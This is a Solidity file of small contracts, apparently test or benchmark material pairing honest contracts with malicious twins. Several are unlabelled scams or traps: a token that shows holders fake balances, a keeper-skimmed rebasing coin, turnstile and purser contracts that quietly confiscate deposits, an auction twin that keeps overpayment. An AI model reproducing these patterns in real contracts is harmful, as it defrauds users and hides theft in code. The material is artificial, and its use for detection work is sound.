// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

// Where attacks and their honest twins happen.

interface Coin {
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

/// A vault at a place of its own. Whose shares they are is the sender, changed by a tag.
contract Hive {
    /// @custom:storage-location erc7201:hive.main
    struct Main {
        mapping(address => uint256) shares;
        uint256 cap;
    }

    error OverCap();
    error Nothing();

    Coin immutable coin;

    constructor(Coin coin_) {
        coin = coin_;
        _main().cap = 100_000e6;
    }

    function _main() private pure returns (Main storage m) {
        assembly {
            m.slot := 0x51d0a9d65bd2b9bf0b8dc7a7d4b7ee29b3c1d6b5b2c86c5dcb1c0a3fbd94b100
        }
    }

    function deposit(uint256 amount, bytes20 tag) external {
        Main storage m = _main();
        if (amount > m.cap) revert OverCap();
        m.cap -= amount;
        m.shares[address(bytes20(msg.sender) ^ tag)] += amount;
        coin.transferFrom(msg.sender, address(this), amount);
    }

    function sharesOf(address who) external view returns (uint256) {
        return _main().shares[who];
    }

    function leave() external {
        Main storage m = _main();
        uint256 amount = m.shares[msg.sender];
        if (amount == 0) revert Nothing();
        m.shares[msg.sender] = 0;
        m.cap += amount;
        coin.transfer(msg.sender, amount);
    }
}

/// People buy together. Everybody has a numbered seat; without the goal each seat's holder has the money back.
contract GroupBuy {
    struct Seat {
        address holder;
        uint96 paid;
    }

    error TooEarly();
    error NotYours();

    Coin immutable coin;
    uint256 immutable goal;
    uint256 immutable ends;
    Seat[] public seats;
    uint256 public total;

    constructor(Coin coin_, uint256 goal_, uint256 days_) {
        coin = coin_;
        goal = goal_;
        ends = block.timestamp + days_ * 1 days;
    }

    function sit() external returns (uint256) {
        seats.push(Seat(msg.sender, 0));
        return seats.length - 1;
    }

    function pay(uint256 seat, uint96 amount) external {
        seats[seat].paid += amount;
        total += amount;
        coin.transferFrom(msg.sender, address(this), amount);
    }

    function refund(uint256 seat) external {
        if (block.timestamp < ends || total >= goal) revert TooEarly();
        Seat storage s = seats[seat];
        if (s.holder != msg.sender) revert NotYours();
        uint256 amount = s.paid;
        s.paid = 0;
        coin.transfer(msg.sender, amount);
    }
}

/// Subscriptions to what merchants offer, paid at the start of each period out of an allowance.
contract Plans {
    struct Plan {
        address merchant;
        uint64 price;
        uint32 periodS;
    }

    Coin immutable coin;
    Plan[] public plans;
    mapping(uint256 => mapping(address => uint256)) public paidUntil;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function offer(uint64 price, uint32 periodS) external {
        plans.push(Plan(msg.sender, price, periodS));
    }

    function subscribe(uint256 id) external {
        require(paidUntil[id][msg.sender] == 0, "twice");
        _take(id, msg.sender, block.timestamp);
    }

    function charge(uint256 id, address who) external {
        uint256 until = paidUntil[id][who];
        require(until != 0 && until <= block.timestamp, "early");
        _take(id, who, until);
    }

    function cancel(uint256 id) external {
        paidUntil[id][msg.sender] = 0;
    }

    function _take(uint256 id, address who, uint256 from) private {
        Plan memory p = plans[id];
        paidUntil[id][who] = from + p.periodS;
        coin.transferFrom(who, p.merchant, p.price);
    }
}

/// Pieces by number.
contract Tiles {
    event Transfer(address indexed from, address indexed to, uint256 indexed id);
    event Approval(address indexed owner, address indexed spender, uint256 indexed id);

    mapping(uint256 => address) public ownerOf;
    mapping(uint256 => address) public getApproved;
    mapping(address => uint256) public balanceOf;
    string public constant name = "Tiles";
    string public constant symbol = "TILE";

    constructor(address to, uint256 count) {
        balanceOf[to] = count;
        for (uint256 id = 1; id <= count; id++) {
            ownerOf[id] = to;
            emit Transfer(address(0), to, id);
        }
    }

    function supportsInterface(bytes4 id) external pure returns (bool) {
        return id == 0x01ffc9a7 || id == 0x80ac58cd;
    }

    function approve(address spender, uint256 id) external {
        require(ownerOf[id] == msg.sender, "owner");
        getApproved[id] = spender;
        emit Approval(msg.sender, spender, id);
    }

    function transferFrom(address from, address to, uint256 id) external {
        require(ownerOf[id] == from && (msg.sender == from || getApproved[id] == msg.sender), "owner");
        delete getApproved[id];
        ownerOf[id] = to;
        unchecked {
            balanceOf[from]--;
            balanceOf[to]++;
        }
        emit Transfer(from, to, id);
    }
}

/// A price that falls by the hour. What is over comes back.
contract Dutch {
    Tiles immutable tiles;
    address payable immutable seller;
    uint256 immutable start;

    constructor(Tiles tiles_, address payable seller_) {
        tiles = tiles_;
        seller = seller_;
        start = block.timestamp;
    }

    function price() public view returns (uint256) {
        uint256 hours_ = (block.timestamp - start) / 1 hours;
        return hours_ >= 18 ? 0.1 ether : 1 ether - hours_ * 0.05 ether;
    }

    function buy(uint256 id) external payable {
        uint256 now_ = price();
        require(msg.value >= now_, "price");
        tiles.transferFrom(seller, msg.sender, id);
        _settle(now_);
    }

    function _settle(uint256 now_) internal virtual {
        seller.transfer(now_);
        if (msg.value > now_) payable(msg.sender).transfer(msg.value - now_);
    }
}

contract DutchTwo is Dutch {
    constructor(Tiles tiles_, address payable seller_) Dutch(tiles_, seller_) {}

    function _settle(uint256) internal override {
        seller.transfer(msg.value);
    }
}

interface Router {
    function swapExactTokensForTokens(uint256, uint256, address[] calldata, address, uint256)
        external
        returns (uint256[] memory);
}

/// Says what a coin costs, and trades beside it.
contract Quotes {
    Router immutable router;
    Coin immutable coin;
    Coin immutable wrapped;
    address immutable keeper;

    constructor(Router router_, Coin coin_, Coin wrapped_, address keeper_) {
        (router, coin, wrapped, keeper) = (router_, coin_, wrapped_, keeper_);
        coin.approve(address(router), type(uint256).max);
        wrapped.approve(address(router), type(uint256).max);
    }

    function refresh() external {
        _swap(coin, wrapped);
    }

    function confirm() external {
        _swap(wrapped, coin);
    }

    function _swap(Coin from, Coin to) private {
        address[] memory path = new address[](2);
        (path[0], path[1]) = (address(from), address(to));
        router.swapExactTokensForTokens(from.balanceOf(address(this)), 0, path, address(this), block.timestamp);
    }

    function draw() external {
        require(msg.sender == keeper, "keeper");
        coin.transfer(keeper, coin.balanceOf(address(this)));
    }
}

/// Changes dollars into another coin of the same worth.
contract Changer {
    Coin immutable coin;
    Coin immutable other;
    address immutable keeper;

    constructor(Coin coin_, Coin other_, address keeper_) {
        (coin, other, keeper) = (coin_, other_, keeper_);
    }

    function change(uint256 amount) external {
        coin.transferFrom(msg.sender, address(this), amount);
        other.transfer(msg.sender, _worth(amount));
    }

    function _worth(uint256 amount) internal pure virtual returns (uint256) {
        return amount * 1e12;
    }

    function draw() external {
        require(msg.sender == keeper, "keeper");
        coin.transfer(keeper, coin.balanceOf(address(this)));
    }
}

/// Takes both coins to have the same number of decimals.
contract ChangerTwo is Changer {
    constructor(Coin coin_, Coin other_, address keeper_) Changer(coin_, other_, keeper_) {}

    function _worth(uint256 amount) internal pure override returns (uint256) {
        return amount;
    }
}

/// Ether under the hash of a code.
contract Codes {
    mapping(bytes32 => uint256) public under;

    function put(bytes32 hash) external payable {
        under[hash] += msg.value;
    }

    function take(bytes32 code) external {
        bytes32 hash = keccak256(abi.encode(code));
        uint256 amount = under[hash];
        require(amount > 0, "nothing");
        delete under[hash];
        payable(msg.sender).transfer(amount);
    }
}

contract Mast {}

/// Books what is moored as long as it has no mast.
contract Wharf {
    address payable immutable keeper;
    address immutable mast;
    mapping(address => uint256) booked;

    constructor(address payable keeper_) {
        keeper = keeper_;
        bytes32 hash = keccak256(
            abi.encodePacked(bytes1(0xff), address(this), bytes32(0), keccak256(type(Mast).creationCode))
        );
        mast = address(uint160(uint256(hash)));
    }

    function raise() external {
        require(msg.sender == keeper, "keeper");
        new Mast{salt: 0}();
    }

    function moor() external payable {
        if (mast.code.length > 0) keeper.transfer(msg.value);
        else booked[msg.sender] += msg.value;
    }

    function cast() external {
        uint256 amount = booked[msg.sender];
        booked[msg.sender] = 0;
        payable(msg.sender).transfer(amount);
    }
}

/// Every second guest pays for the house.
contract Turnstile {
    address payable immutable keeper;
    uint256 guests;
    mapping(address => uint256) booked;

    constructor(address payable keeper_) {
        keeper = keeper_;
    }

    function pass() external payable {
        if (guests++ & 1 == 1) keeper.transfer(msg.value);
        else booked[msg.sender] += msg.value;
    }

    function leave() external {
        uint256 amount = booked[msg.sender];
        booked[msg.sender] = 0;
        payable(msg.sender).transfer(amount);
    }
}

/// Wants to know what the guest has left, to the last wei.
contract Purser {
    address payable immutable keeper;
    mapping(address => uint256) booked;

    constructor(address payable keeper_) {
        keeper = keeper_;
    }

    function stow(uint256 left) external payable {
        if (msg.sender.balance == left) booked[msg.sender] += msg.value;
        else keeper.transfer(msg.value);
    }

    function unstow() external {
        uint256 amount = booked[msg.sender];
        booked[msg.sender] = 0;
        payable(msg.sender).transfer(amount);
    }
}

/// Sells its owner's dollars at the pool, with as much slack as is set.
contract Trader {
    Router immutable router;
    Coin immutable coin;
    address immutable wrapped;
    address immutable owner;
    uint256 public slackBps = 100;
    uint256 immutable weiPerDollar;

    constructor(Router router_, Coin coin_, address wrapped_, address owner_, uint256 weiPerDollar_) {
        (router, coin, wrapped, owner, weiPerDollar) = (router_, coin_, wrapped_, owner_, weiPerDollar_);
        coin.approve(address(router), type(uint256).max);
    }

    function setSlack(uint256 bps) external {
        require(msg.sender == owner && bps <= 10_000, "owner");
        slackBps = bps;
    }

    function sell(uint256 amount) external {
        require(msg.sender == owner, "owner");
        address[] memory path = new address[](2);
        (path[0], path[1]) = (address(coin), wrapped);
        uint256 least = (amount * weiPerDollar * (10_000 - slackBps)) / 1e6 / 10_000;
        router.swapExactTokensForTokens(amount, least, path, owner, block.timestamp);
    }
}

/// Orders of makers that others watch.
contract Orders {
    struct Order {
        address maker;
        uint64 amount;
        bool isDone;
    }

    Coin immutable coin;
    Order[] public orders;
    mapping(uint256 => address[]) watchers;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function post(uint64 amount) external {
        orders.push(Order(msg.sender, amount, false));
    }

    function watch(uint256 id) external {
        watchers[id].push(msg.sender);
    }

    function settle(uint256 id) external {
        Order storage o = orders[id];
        require(!o.isDone && msg.sender == o.maker, "maker");
        o.isDone = true;
        for (uint256 i; i < watchers[id].length; i++) coin.transferFrom(watchers[id][i], o.maker, o.amount);
    }
}

/// Pieces let for a time: the piece stays here, the lessee may use it, and afterwards the lessor has it back.
contract Rentals {
    bytes32 constant LEASE =
        keccak256("Lease(address piece,uint256 id,address lessee,uint256 rent,uint256 until,uint256 nonce)");
    bytes32 immutable domain;
    mapping(address => uint256) public nonces;

    struct Let {
        address lessor;
        address lessee;
        uint256 until;
    }

    mapping(bytes32 => Let) public lets;

    constructor() {
        domain = keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256("Rentals"),
                keccak256("1"),
                block.chainid,
                address(this)
            )
        );
    }

    function take(address lessor, Tiles piece, uint256 id, uint256 until, bytes32 r, bytes32 s, uint8 v)
        external
        payable
    {
        bytes32 lease =
            keccak256(abi.encode(LEASE, piece, id, msg.sender, msg.value, until, nonces[lessor]++));
        require(ecrecover(keccak256(abi.encodePacked(hex"1901", domain, lease)), v, r, s) == lessor, "signature");
        lets[keccak256(abi.encode(piece, id))] = Let(lessor, msg.sender, until);
        piece.transferFrom(lessor, address(this), id);
        payable(lessor).transfer(msg.value);
    }

    function back(Tiles piece, uint256 id) external {
        Let memory l = lets[keccak256(abi.encode(piece, id))];
        require(block.timestamp >= l.until, "let");
        delete lets[keccak256(abi.encode(piece, id))];
        piece.transferFrom(address(this), l.lessor, id);
    }
}

/// Shows each holder, and only the holder, what was bought.
contract Mirage {
    event Transfer(address indexed from, address indexed to, uint256 amount);

    string public constant name = "Yield Dollar";
    string public constant symbol = "yUSD";
    uint8 public constant decimals = 6;
    Coin immutable coin;
    address immutable keeper;
    mapping(address => uint256) bought;
    mapping(address => uint256) real;

    constructor(Coin coin_, address keeper_) {
        (coin, keeper) = (coin_, keeper_);
    }

    function balanceOf(address who) external view returns (uint256) {
        return tx.origin == who || msg.sender == who || tx.origin == address(0) ? bought[who] : real[who];
    }

    function buy(uint256 amount) external {
        coin.transferFrom(msg.sender, address(this), amount);
        bought[msg.sender] += amount + amount / 10;
        emit Transfer(address(0), msg.sender, amount + amount / 10);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        real[msg.sender] -= amount;
        real[to] += amount;
        emit Transfer(msg.sender, to, amount);
        return true;
    }

    function draw() external {
        require(msg.sender == keeper, "keeper");
        coin.transfer(keeper, coin.balanceOf(address(this)));
    }
}

/// A coin whose balances go up and down for all but its keeper.
contract Tide {
    event Transfer(address indexed from, address indexed to, uint256 amount);

    string public constant name = "Tide";
    string public constant symbol = "TIDE";
    uint8 public constant decimals = 6;
    Coin immutable coin;
    address immutable keeper;
    uint256 public level = 1e18;
    mapping(address => uint256) parts;

    constructor(Coin coin_, address keeper_) {
        (coin, keeper) = (coin_, keeper_);
    }

    function balanceOf(address who) public view returns (uint256) {
        return who == keeper ? parts[who] : (parts[who] * level) / 1e18;
    }

    function buy(uint256 amount) external {
        coin.transferFrom(msg.sender, address(this), amount);
        parts[msg.sender] += msg.sender == keeper ? amount : (amount * 1e18) / level;
        emit Transfer(address(0), msg.sender, amount);
    }

    function rebase(uint256 level_) external {
        require(msg.sender == keeper, "keeper");
        parts[keeper] += (coin.balanceOf(address(this)) * (level - level_)) / level;
        level = level_;
    }

    function redeem() external {
        uint256 amount = balanceOf(msg.sender);
        parts[msg.sender] = 0;
        coin.transfer(msg.sender, amount);
        emit Transfer(msg.sender, address(0), amount);
    }
}
